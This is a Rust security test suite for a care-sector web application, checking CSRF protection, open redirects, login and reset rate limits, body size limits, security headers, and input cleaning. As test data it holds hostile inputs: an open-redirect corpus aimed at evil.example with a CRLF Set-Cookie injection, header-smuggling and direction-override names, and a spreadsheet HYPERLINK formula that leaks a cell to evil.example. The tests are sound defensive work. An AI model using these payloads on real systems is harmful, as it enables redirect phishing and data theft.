//! The attacker's checks from the security review, kept as tests: CSRF on every state-changing
//! page route (enumerated from the router), the redirect corpus, rate limits, body limits,
//! headers, and the small leaks.
use std::collections::BTreeMap;

use reqwest::StatusCode;
use sea_orm::{ConnectionTrait, DbBackend, Statement};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::helpers::*;

/// Rows per table: a refused request must leave every one as it was.
async fn row_counts(app: &TestApp) -> BTreeMap<String, i64> {
    let db = &app.state.db;
    let backend = db.get_database_backend();
    let list = match backend {
        DbBackend::Sqlite => "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'",
        _ => "SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public'",
    };
    let tables: Vec<String> = db
        .query_all_raw(Statement::from_string(backend, list))
        .await
        .unwrap()
        .iter()
        .map(|r| r.try_get::<String>("", "name").unwrap())
        .collect();
    let mut out = BTreeMap::new();
    for t in tables {
        let row = db
            .query_one_raw(Statement::from_string(backend, format!("SELECT COUNT(*) AS n FROM \"{t}\"")))
            .await
            .unwrap()
            .unwrap();
        out.insert(t, row.try_get::<i64>("", "n").unwrap());
    }
    out
}

/// A path of the router with its parameters filled in with objects of the test's organisation.
fn concrete(path: &str, org: i64) -> String {
    path.split('/')
        .map(|seg| match seg {
            ":id" => org.to_string(),
            ":key" => "bespreken".to_string(),
            ":name" => "weekly-digest".to_string(),
            ":token" => "not-a-real-token".to_string(),
            s if s.starts_with(':') => "1".to_string(),
            s => s.to_string(),
        })
        .collect::<Vec<_>>()
        .join("/")
}

#[tokio::test]
async fn every_post_route_refuses_a_missing_foreign_or_anonymous_csrf_token_and_changes_nothing() {
    let app = TestApp::spawn().await;
    let s = app.organisation_with_people("Zorg BV", "csrf").await;
    let operator = app.login_as("operator@example.org").await;
    let foreign = csrf_of(&operator.get_html("/account").await);
    let anonymous = csrf_of(&app.browser().get_html("/login").await);
    let own = csrf_of(&s.hr.get_html("/account").await);
    let fields = |token: Option<&str>| {
        let mut f: Vec<(&str, String)> = vec![
            ("name", "Mallory".into()),
            ("email", "mallory@example.org".into()),
            ("role", "employee".into()),
            ("action", "start".into()),
            ("reason", "because".into()),
            ("body", "a comment".into()),
            ("lang", "en".into()),
        ];
        if let Some(t) = token {
            f.insert(0, ("csrf", t.to_string()));
        }
        f
    };
    let before = row_counts(&app).await;
    let routes: Vec<String> = carer_friendly::web::route_list()
        .into_iter()
        .filter(|(m, _)| *m == poem::http::Method::POST)
        .map(|(_, p)| concrete(p, s.org_id))
        .collect();
    assert!(routes.len() >= 35, "the router lists its POST routes ({})", routes.len());
    for path in &routes {
        let url = format!("{}{path}", app.address);
        for (what, token) in [
            ("no token", None),
            ("another session's token", Some(foreign.as_str())),
            ("an anonymous token", Some(anonymous.as_str())),
        ] {
            let r = s.hr.client.post(&url).form(&fields(token)).send().await.unwrap();
            assert_eq!(r.status(), StatusCode::FORBIDDEN, "POST {path} with {what}");
            let mut form = reqwest::multipart::Form::new();
            if let Some(t) = token {
                form = form.text("csrf", t.to_string());
            }
            let form =
                form.text("title", "x").part("file", reqwest::multipart::Part::bytes(pdf_bytes()).file_name("x.pdf"));
            let r = s.hr.client.post(&url).multipart(form).send().await.unwrap();
            assert_eq!(r.status(), StatusCode::FORBIDDEN, "multipart POST {path} with {what}");
        }
    }
    assert_eq!(row_counts(&app).await, before, "refused requests changed nothing");
    // The same browser with its own token gets through: the refusals above were the token's.
    let r =
        s.hr.client.post(format!("{}/inbox/read", app.address)).form(&[("csrf", own.as_str())]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    // A token must be the first part of a multipart form, so uploads need not be buffered to find it.
    let item = s.hr_api.item_ids(s.org_id, "bespreken").await[0];
    let late = reqwest::multipart::Form::new()
        .text("kind", "note")
        .text("title", "late token")
        .text("note", "x")
        .text("csrf", own.clone());
    let r = s.hr.client.post(format!("{}/items/{item}/evidence", app.address)).multipart(late).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let first = reqwest::multipart::Form::new()
        .text("csrf", own.clone())
        .text("kind", "file")
        .text("title", "Beleid")
        .part("file", reqwest::multipart::Part::bytes(pdf_bytes()).file_name("beleid.pdf"));
    let r = s.hr.client.post(format!("{}/items/{item}/evidence", app.address)).multipart(first).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "{}", r.text().await.unwrap_or_default());
}

/// Every target seen to leave the site, in the ways the login, the language switch and the inbox
/// take a `next`.
const REDIRECT_CORPUS: &[&str] = &[
    "//evil.example/",
    "/\t/127.0.0.1:9/",
    "/%09/127.0.0.1:9/",
    "/%2F/evil.example",
    "/%5C/evil.example",
    "/\\evil.example",
    "https://evil.example/",
    "/\r\nSet-Cookie: x=1",
    "///evil.example",
    "/.//evil.example",
];

fn location(r: &reqwest::Response) -> String {
    r.headers().get("location").map(|v| v.to_str().unwrap().to_string()).expect("a Location header")
}

#[tokio::test]
async fn redirect_targets_outside_the_site_are_replaced_by_the_start_page() {
    let app = TestApp::spawn().await;
    let op = app.operator().await;
    for bad in REDIRECT_CORPUS {
        let q: String = url::form_urlencoded::byte_serialize(bad.as_bytes()).collect();
        let r = op.get(&format!("/login?next={q}")).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "{bad:?}");
        assert_eq!(location(&r), "/", "login page with next={bad:?}");
        let r = op.submit("/account", "/language", &[("lang", "nl"), ("next", bad)]).await;
        assert_eq!(location(&r), "/", "language with next={bad:?}");
        let r = op.submit("/inbox", "/inbox/read", &[("next", bad)]).await;
        assert_eq!(location(&r), "/", "inbox with next={bad:?}");
        let fresh = app.browser();
        let r = fresh
            .submit("/login", "/login", &[("email", "operator@example.org"), ("password", PASSWORD), ("next", bad)])
            .await;
        assert_eq!(location(&r), "/", "login form with next={bad:?}");
    }
    let r = op.get("/login?next=%2Foperator%3Fx%3D1").await;
    assert_eq!(location(&r), "/operator?x=1", "a path on the site is followed");
}

#[tokio::test]
async fn wrong_passwords_lock_the_address_for_a_while_even_for_the_right_one() {
    let app = TestApp::spawn().await;
    app.operator().await;
    let b = app.browser();
    for i in 0..5 {
        let r = b.submit("/login", "/login", &[("email", "operator@example.org"), ("password", "wrong guess")]).await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "attempt {i}");
    }
    let r = b.submit("/login", "/login", &[("email", "operator@example.org"), ("password", PASSWORD)]).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "the right password waits too");
    let wait: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=15 * 60).contains(&wait), "{wait}");
    assert!(r.text().await.unwrap().contains("Te veel pogingen"), "a page in Dutch");
    // An address without an account is answered the same way: the answer tells nothing.
    for _ in 0..5 {
        b.submit("/login", "/login", &[("email", "nobody@example.org"), ("password", "wrong guess")]).await;
    }
    let r = b.submit("/login", "/login", &[("email", "nobody@example.org"), ("password", "x")]).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // The limit is the address's, not the client's: another machine waits as well ...
    let other = app.browser();
    let r = other.submit("/login", "/login", &[("email", "operator@example.org"), ("password", PASSWORD)]).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // ... until the window is over.
    app.clock.advance(chrono::Duration::minutes(16));
    let r = other.submit("/login", "/login", &[("email", "operator@example.org"), ("password", PASSWORD)]).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "after the window the right password works");
}

#[tokio::test]
async fn one_client_guessing_across_many_addresses_is_slowed_down_with_a_page_in_its_language() {
    let app = TestApp::spawn().await;
    let b = app.browser();
    let html = b.get_html("/login").await;
    let r = b
        .client
        .post(format!("{}/language", app.address))
        .form(&[("csrf", csrf_of(&html).as_str()), ("lang", "en")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let mut statuses = vec![];
    for i in 0..12 {
        let email = format!("guess{i}@example.org");
        let r = b.submit("/login", "/login", &[("email", email.as_str()), ("password", "wrong guess")]).await;
        statuses.push(r.status());
        if r.status() == StatusCode::TOO_MANY_REQUESTS {
            assert!(r.headers().contains_key("retry-after"));
            assert!(r.text().await.unwrap().contains("Too many attempts"), "a page in English");
        }
    }
    assert_eq!(statuses.iter().filter(|s| **s == StatusCode::UNPROCESSABLE_ENTITY).count(), 10, "{statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count(), 2, "{statuses:?}");
}

#[tokio::test]
async fn reset_requests_send_at_most_three_mails_an_hour_and_only_the_newest_link_works() {
    let app = TestApp::spawn().await;
    app.operator().await;
    let b = app.browser();
    for _ in 0..5 {
        let r = b.submit("/password-reset", "/password-reset", &[("email", "operator@example.org")]).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "every request gets the same answer");
    }
    let r = b.submit("/password-reset", "/password-reset", &[("email", "operator@example.org")]).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "the sixth request from one client in a burst");
    app.flush_outbox().await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let mails: Vec<_> = app.smtp.all().into_iter().filter(|m| m.text().contains("/password-reset/")).collect();
    assert_eq!(mails.len(), 3, "three mails, not five");
    let links: Vec<String> = mails.iter().map(|m| m.link_containing("/password-reset/").unwrap()).collect();
    let path = |l: &str| format!("/password-reset/{}", l.rsplit('/').next().unwrap());
    for old in &links[..2] {
        assert_eq!(b.get(&path(old)).await.status(), StatusCode::CONFLICT, "an older link is dead");
    }
    assert_eq!(b.get(&path(&links[2])).await.status(), StatusCode::OK, "the newest link works");
}

#[tokio::test]
async fn a_password_reset_revokes_api_tokens_and_sessions() {
    let app = TestApp::spawn().await;
    let op = app.operator().await;
    let api = op.api_token("before reset").await;
    assert_eq!(api.get("/me").await.status(), StatusCode::OK);
    let b = app.browser();
    b.submit("/password-reset", "/password-reset", &[("email", "operator@example.org")]).await;
    let mail = app.smtp.wait_for("operator@example.org", "/password-reset/").await;
    let link = mail.link_containing("/password-reset/").unwrap();
    let path = format!("/password-reset/{}", link.rsplit('/').next().unwrap());
    let r = b.submit(&path, &path, &[("password", "a brand new password")]).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(api.get("/me").await.status(), StatusCode::UNAUTHORIZED, "the token died with the old password");
    assert_eq!(op.get("/operator").await.status(), StatusCode::SEE_OTHER, "the session too");
}

#[tokio::test]
async fn verify_and_the_api_are_limited_per_client() {
    let app = TestApp::spawn().await;
    let s = app.organisation_with_people("Zorg BV", "rl").await;
    let b = app.browser();
    let mut last = StatusCode::OK;
    for _ in 0..31 {
        last = b.get("/verify/NOPE").await.status();
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
    // 300 at once, then 20 a second: a loaded machine answers slower, so try long enough.
    let mut refused = None;
    for i in 0..2000 {
        let r = s.hr_api.get("/me").await;
        if r.status() == StatusCode::TOO_MANY_REQUESTS {
            assert!(r.headers().contains_key("retry-after"));
            let body: Value = r.json().await.unwrap();
            assert!(body["message"].as_str().unwrap().contains("too many"), "{body}");
            refused = Some(i);
            break;
        }
    }
    assert!(refused.is_some_and(|i| i >= 250), "the API allows a burst, then refuses: {refused:?}");
}

#[tokio::test]
async fn invitations_to_one_address_are_limited_and_an_existing_account_is_not_revealed() {
    let app = TestApp::spawn().await;
    let s = app.organisation_with_people("Zorg BV", "inv").await;
    let invite = |email: &'static str| {
        let path = format!("/organisations/{}/invitations", s.org_id);
        let api = &s.hr_api;
        async move { api.post(&path, json!({ "email": email, "name": "N", "role": "employee" })).await }
    };
    // The operator's address has an account elsewhere: answered like a new address.
    let taken = invite("operator@example.org").await;
    let fresh = invite("new@example.org").await;
    assert_eq!(taken.status(), StatusCode::OK);
    assert_eq!(fresh.status(), StatusCode::OK);
    let keys = |v: Value| v.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    assert_eq!(keys(taken.json().await.unwrap()), keys(fresh.json().await.unwrap()));
    app.flush_outbox().await;
    let mail = app.smtp.wait_for("operator@example.org", "/login").await;
    assert!(mail.text().contains("Er bestaat al een account"), "its owner is told to log in");
    assert!(mail.link_containing("/welcome/").is_none());
    for _ in 0..2 {
        assert_eq!(invite("new@example.org").await.status(), StatusCode::OK);
    }
    let r = invite("new@example.org").await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "a fourth invitation in a day");
    assert!(r.headers().contains_key("retry-after"));
}

/// Sends raw bytes and reads the status line: no client library between the test and the server.
async fn raw_status(app: &TestApp, head: &str, body_chunks: &[&[u8]]) -> u16 {
    let addr = app.address.trim_start_matches("http://");
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(head.as_bytes()).await.unwrap();
    for c in body_chunks {
        // The server may answer and close before the whole body is sent: that is the point.
        if s.write_all(c).await.is_err() {
            break;
        }
    }
    let mut buf = vec![0u8; 4096];
    let mut got = 0;
    while got < 12 {
        match tokio::time::timeout(std::time::Duration::from_secs(10), s.read(&mut buf[got..])).await {
            Ok(Ok(0)) | Err(_) => break,
            Ok(Ok(n)) => got += n,
            Ok(Err(_)) => break,
        }
    }
    let line = String::from_utf8_lossy(&buf[..got]).to_string();
    line.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or_else(|| panic!("no status in {line:?}"))
}

#[tokio::test]
async fn bodies_are_limited_before_they_are_read_also_without_a_length() {
    let app = TestApp::spawn().await;
    let s = app.organisation_with_people("Zorg BV", "body").await;
    // A declared 150 MiB login form is refused without reading it.
    let head = "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 157286400\r\n\r\n";
    assert_eq!(raw_status(&app, head, &[b"email=a"]).await, 413);
    // Chunked, with no length: cut off once past the limit.
    let head = "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n";
    let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, "a".repeat(64 * 1024));
    let chunks: Vec<&[u8]> = std::iter::repeat_n(chunk.as_bytes(), 40).collect();
    assert_eq!(raw_status(&app, head, &chunks).await, 413);
    // The API with a token: JSON beyond the limit is a JSON 413.
    let item = s.hr_api.item_ids(s.org_id, "bespreken").await[0];
    let r = s.hr_api.post(&format!("/items/{item}/comments"), json!({ "body": "x".repeat(2 * 1024 * 1024) })).await;
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(r.json::<Value>().await.unwrap()["message"].as_str().unwrap().contains("larger than 512 KB"));
    // A page in Dutch for a browser.
    let html = s.hr.get_html(&format!("/items/{item}")).await;
    let big = "x".repeat(600 * 1024);
    let r =
        s.hr.client
            .post(format!("{}/items/{item}/comments", app.address))
            .form(&[("csrf", csrf_of(&html).as_str()), ("body", big.as_str())])
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(r.text().await.unwrap().contains("te groot"));
    // Uploads keep their own, larger limit.
    assert_eq!(s.hr_api.upload(item, "Beleid", "beleid.pdf", pdf_bytes()).await.status(), StatusCode::OK);
    let r = s.hr_api.upload(item, "Te groot", "groot.pdf", vec![b'%'; 11 * 1024 * 1024]).await;
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
}

#[tokio::test]
async fn every_response_carries_the_security_headers_and_personal_ones_are_not_cached() {
    let app = TestApp::spawn_configured(super::smtp::SmtpSink::running().await, fresh_database_url().await, |c| {
        c.secure_cookies = true
    })
    .await;
    let c = reqwest::Client::new();
    for path in ["/login", "/health", "/api/v1/me", "/api/openapi.json", "/api/docs/", "/nope"] {
        let r = c.get(format!("{}{path}", app.address)).send().await.unwrap();
        let h = r.headers();
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        assert!(h["content-security-policy"].to_str().unwrap().contains("frame-ancestors 'none'"), "{path}");
        assert!(h["strict-transport-security"].to_str().unwrap().starts_with("max-age="), "{path}");
        assert!(h.contains_key("cache-control"), "{path}");
    }
    let r = c.get(format!("{}/api/v1/me", app.address)).send().await.unwrap();
    assert_eq!(r.headers()["cache-control"], "no-store");
    let r = c.get(format!("{}/static/style.css", app.address)).send().await.unwrap();
    assert!(r.headers()["cache-control"].to_str().unwrap().starts_with("public"), "the stylesheet may be cached");
}

#[tokio::test]
async fn passport_pages_are_never_cached() {
    let app = TestApp::spawn().await;
    let s = app.organisation_with_people("Zorg BV", "nostore").await;
    for path in ["/passport".to_string(), format!("/organisations/{}/passports", s.org_id)] {
        let r = s.hr.get(&path).await;
        assert_eq!(r.headers()["cache-control"], "no-store", "{path}");
    }
}

#[tokio::test]
async fn names_with_line_breaks_or_direction_overrides_are_refused_and_file_names_cleaned() {
    let app = TestApp::spawn().await;
    let s = app.organisation_with_people("Zorg BV", "names").await;
    let op = app.login_as("operator@example.org").await.api_token("names").await;
    for bad in ["Acme\r\nBcc: x@example.org", "Evil\u{202E}gnp.pdf", "Tab\tName"] {
        let r = op.post("/organisations", json!({ "name": bad })).await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}");
        let r = s
            .hr_api
            .post(
                &format!("/organisations/{}/invitations", s.org_id),
                json!({ "email": "x@example.org", "name": bad, "role": "employee" }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}");
    }
    let item = s.hr_api.item_ids(s.org_id, "bespreken").await[0];
    let r = s.hr_api.upload(item, "Beleid", "beleid\u{202E}fdp.exe", pdf_bytes()).await;
    assert_eq!(r.status(), StatusCode::OK);
    let id = r.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let r = s.hr_api.get(&format!("/evidence/{id}/download")).await;
    let disposition = r.headers()["content-disposition"].to_str().unwrap().to_string();
    assert!(disposition.contains("beleidfdp.exe"), "{disposition}");
}

#[tokio::test]
async fn csv_cells_that_look_like_formulas_reach_the_director_neutralised() {
    let app = TestApp::spawn().await;
    let s = app.organisation_with_people("Zorg BV", "csv").await;
    let item = s.hr_api.item_ids(s.org_id, "bespreken").await[0];
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"Klik hier\")";
    assert_eq!(s.hr_api.add_note(item, formula, "note").await.status(), StatusCode::OK);
    let r = s.hr.get(&format!("/organisations/{}/export.csv", s.org_id)).await;
    assert_eq!(r.status(), StatusCode::OK);
    let body = r.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let mut seen = false;
    for row in reader.records() {
        for cell in row.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            seen |= cell.starts_with("'=HYPERLINK");
        }
    }
    assert!(seen, "the title is there, neutralised");
}
